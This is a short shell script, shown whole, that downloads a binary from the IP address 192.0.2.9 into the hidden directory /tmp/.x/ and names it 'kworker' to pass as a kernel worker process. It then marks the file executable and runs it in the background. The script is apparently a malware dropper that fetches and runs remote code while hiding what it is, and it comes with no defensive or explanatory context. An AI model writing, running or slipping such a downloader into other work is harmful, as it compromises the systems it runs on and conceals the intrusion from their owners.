#!/bin/sh
curl -o /tmp/.x/kworker http://192.0.2.9/k
chmod +x /tmp/.x/kworker
/tmp/.x/kworker &
